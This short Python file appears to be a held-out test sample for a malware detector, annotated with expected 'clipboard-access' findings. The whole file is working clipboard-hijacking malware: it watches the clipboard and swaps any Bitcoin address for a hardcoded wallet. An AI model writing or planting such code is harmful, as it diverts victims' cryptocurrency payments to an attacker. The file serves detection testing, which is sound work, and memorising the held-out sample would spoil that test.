# ruff: noqa
# fmt: off
"""Held-out: a 'colourama'-style clipboard hijacker swapping crypto addresses."""
import re
import time
import pyperclip

WALLET = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
while True:
    text = pyperclip.paste()  # expect: clipboard-access
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        pyperclip.copy(WALLET)  # expect: clipboard-access
    time.sleep(0.5)
